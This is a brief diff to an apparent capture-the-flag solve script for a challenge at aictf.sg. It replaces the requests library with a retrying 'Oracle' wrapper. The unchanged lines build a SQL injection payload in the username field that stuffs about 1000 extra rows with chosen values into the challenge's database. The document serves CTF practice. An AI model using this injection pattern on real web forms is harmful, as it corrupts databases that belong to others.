@@ -1,4 +1,4 @@
-import requests
+from sg_ai_ctf_25.oracle import Oracle
 
 url = "https://best-hedgehog.aictf.sg/add_hedgehog"
 
@@ -7,7 +7,9 @@ username = ""
 for i in range(1000):
     username += f"{i}',45,50,40,35,48,42,100), ('"
 
-res = requests.post(url, data={
+oracle = Oracle(retries=3, timeout=60)
+# one insert of 1000 rows: resent only if it never reached the server, or the rows would be duplicated
+res = oracle.post(url, idempotent=False, data={
     "username": username,
     "furriness":1,
     "cuteness":1,